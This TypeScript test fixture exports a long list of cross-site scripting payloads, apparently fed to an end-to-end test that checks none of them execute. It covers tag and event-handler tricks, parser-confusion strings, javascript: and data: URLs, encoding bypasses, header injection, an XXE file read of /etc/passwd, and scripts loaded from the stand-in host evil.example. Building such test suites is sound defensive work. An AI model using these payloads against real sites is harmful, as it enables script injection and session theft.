/**
 * Texts that would run a script wherever one is taken for markup, an address, a style, JSON or a template: the known
 * ways, one or two of each. Each calls `alert`, or changes what `tests/e2e/hostile-texts.test.ts` watches.
 */
const elements = `
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT >
<script type=module>alert(1)</script>
<script src=data:,alert(1)></script>
<script src=//evil.example/x.js></script>
<script>/*<!--*/alert(1)/*-->*/</script>
<script x>alert(1)</script y>
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert\`1\`</script>
<script>\\u0061lert(1)</script>
<script>eval(atob('YWxlcnQoMSk='))</script>
<script>Function('al'+'ert(1)')()</script>
<script>import('data:text/javascript,alert(1)')</script>
<script>setTimeout('alert(1)')</script>
<script>onerror=alert;throw 1</script>
<script nonce=x>alert(1)</script>
<script nomodule>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror=&#97;lert(1)>
<img src=x onerror="&#x61;&#x6c;ert(1)">
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<img src onerror=alert(1)>
<img """><script>alert(1)</script>">
<IMG SRC=x OnErRoR=alert(1)>
<img src="/favicon.svg" onload=alert(1)>
<img srcset="x" onerror=alert(1)>
<image src=x onerror=alert(1)>
<img src=javascript:alert(1)>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img src=x onerror=window['al'+'ert'](1)>
<img src=x onerror=top.alert(1)>
<img src=x onerror=(alert)(1)>
<img src=x onerror=alert&lpar;1&rpar;>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body onhashchange=alert(1)><a href=#x>x</a>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) /></svg>
<svg><script>alert&#40;1&#41;</script>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributename=x dur=1s>
<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>
<svg><animate xlink:href=#hx attributeName=href values=javascript:alert(1) /><a id=hx><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<svg><discard onbegin=alert(1)>
<math><mi href=javascript:alert(1)>x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg></br><style><a title="</style><img src onerror=alert(1)>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>
<noframes><a title="</noframes><img src onerror=alert(1)>"></noframes>
<textarea><a title="</textarea><img src onerror=alert(1)>"></textarea>
<title><a title="</title><img src onerror=alert(1)>"></title>
<style><a title="</style><img src onerror=alert(1)>"></style>
<xmp><a title="</xmp><img src onerror=alert(1)>"></xmp>
<iframe><a title="</iframe><img src onerror=alert(1)>"></iframe>
<select><template><img src onerror=alert(1)></template></select>
<select><style></select><img src onerror=alert(1)></style></select>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src onerror=alert(1)></template>
<div><template shadowrootmode=closed><script>alert(1)</script></template></div>
<plaintext><script>alert(1)</script>
<listing><img src onerror=alert(1)></listing>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src onerror=parent.alert(1)&gt;"></iframe>
<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<frameset onload=alert(1)>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>parent.alert(1)</script>"></object>
<object onerror=alert(1) data=x:>
<embed src=javascript:alert(1)>
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<applet code=x onerror=alert(1)></applet>
<portal src=javascript:alert(1)></portal>
<video onerror=alert(1)><source></video>
<video src=x onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src onerror=alert(1)></audio>
<audio onloadstart=alert(1) src=x></audio>
<video><source onerror=alert(1)></video>
<video><track default oncuechange=alert(1) src="data:,WEBVTT"></video>
<input autofocus onfocus=alert(1)>
<input type=image src onerror=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<button autofocus onfocus=alert(1)>x</button>
<keygen autofocus onfocus=alert(1)>
<p tabindex=0 autofocus onfocus=alert(1)>x</p>
<p contenteditable autofocus onfocus=alert(1)>x</p>
<details open ontoggle=alert(1)>x</details>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<div popover id=pop onbeforetoggle=alert(1)>x</div><button popovertarget=pop autofocus>x</button>
<marquee onstart=alert(1)>x</marquee>
<div style="animation:x 1s" onanimationstart=alert(1)>x</div><style>@keyframes x{}</style>
<div style=transition:outline-color onwebkittransitionend=alert(1)>x</div>
<div onscrollend=alert(1) style=overflow:auto;height:1px>x</div>
<div oncontentvisibilityautostatechange=alert(1) style=display:block;content-visibility:auto>x</div>
<div onpointerenter=alert(1) onmouseover=alert(1) onclick=alert(1)>x</div>
<isindex type=image src onerror=alert(1)>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">
<meta http-equiv=set-cookie content="quzones.flash=x">
<base href=//evil.example/>
<link rel=stylesheet href=data:text/css,*{display:none}>
<link rel=stylesheet href=//evil.example/x.css onload=alert(1)>
<link rel=import href=data:text/html,<script>alert(1)</script>>
<link rel=preload as=image href=x onerror=alert(1)>
<link rel=modulepreload href=//evil.example/x.js>
<style>@import'//evil.example/x.css'</style>
<style>body{background:url(javascript:alert(1))}</style>
<style onload=alert(1)></style>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="-moz-binding:url(//evil.example/x#y)">x</p>
<form action=javascript:alert(1)><input type=submit autofocus></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<form name=body><input name=innerHTML></form>
<form id=documentElement><input name=attributes></form>
<a id=location href=javascript:alert(1)>x</a>
<img name=getElementById><img name=cookie><img name=currentScript>
<a id=__reactRouterContext><a id=__reactRouterContext name=streamController href=x:alert(1)>
<custom-element onconnected=alert(1) is=x>x</custom-element>
<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>
<table><tr><td><style></table><img src onerror=alert(1)></style>
<bgsound src=javascript:alert(1)>
<layer src=//evil.example/x></layer>
<xml id=x><x><script>alert(1)</script></x></xml>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
<![CDATA[<script>alert(1)</script>]]>
]]><script>alert(1)</script>
<!--><img src onerror=alert(1)>-->
<!--x--!><img src onerror=alert(1)>
<!-- --><script>alert(1)</script><!-- -->
<!-x><script>alert(1)</script>
</><img src onerror=alert(1)>
<p title="</p><script>alert(1)</script>">x</p>
<a href="x"title="y"onmouseover=alert(1) style=position:fixed;inset:0>x</a>
`;

const addresses = `
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript&colon;alert(1)
javascript&#58;alert(1)
&#106;&#97;vascript:alert(1)
&#x6A&#x61&#x76&#x61script:alert(1)
java&Tab;script:alert(1)
java&NewLine;script:alert(1)
javascript://%0aalert(1)
javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/alert(1)
javascript:%61lert(1)
javascript://quzones.test/%E2%80%A8alert(1)
vbscript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=
blob:https://evil.example/x
view-source:javascript:alert(1)
feed:javascript:alert(1)
//evil.example/%2e%2e
/\\evil.example
https:evil.example
`;

const breakouts = [
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus='alert(1)",
  '` onload=alert(1)`',
  '</script><script>alert(1)</script>',
  '</SCRIPT/x><svg onload=alert(1)>',
  '<!--<script>"</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</noscript><script>alert(1)</script>',
  '</iframe><script>alert(1)</script>',
  '</template><script>alert(1)</script>',
  '</option></select><script>alert(1)</script>',
  '"};alert(1);//',
  "';alert(1)//",
  '\\";alert(1);//',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '{"__proto__":{"innerHTML":"<img src onerror=alert(1)>"}}',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%253Cscript%253Ealert(1)%253C/script%253E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src onerror=alert(1)&amp;gt;',
  '＜script＞alert(1)＜/script＞',
  'ʺ＞＜svg onload=alert(1)＞',
  '<\u0130mg src onerror=alert(1)>',
  '<ſcript>alert(1)</ſcript>',
  '<img src=x\u2028onerror=alert(1)>',
  '<img src=x\u00a0onerror=alert(1)>',
  '<img\u000csrc=x\u000conerror=alert(1)>',
  '<img\tsrc=x\tonerror\t=\talert(1)>',
  '<img\nsrc=x\nonerror\n=\nalert(1)>',
  '\u202e>)1(trela=rorrenocrs gmi<',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '<https://x"onmouseover="alert(1)>',
  'x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  'x\r\nSet-Cookie: quzones.session_token=planted',
  '=HYPERLINK("javascript:alert(1)")',
];

const lines = (text: string) => text.split('\n').filter((line) => line !== '');

/** What an address can be, as links, pictures and forms would have it. */
const links = lines(addresses).flatMap((address) => [
  `<a href="${address}">x</a>`,
  `<img src="${address}" alt="x">`,
  address,
]);

export const hostileTexts: readonly string[] = [...lines(elements), ...links, ...breakouts];
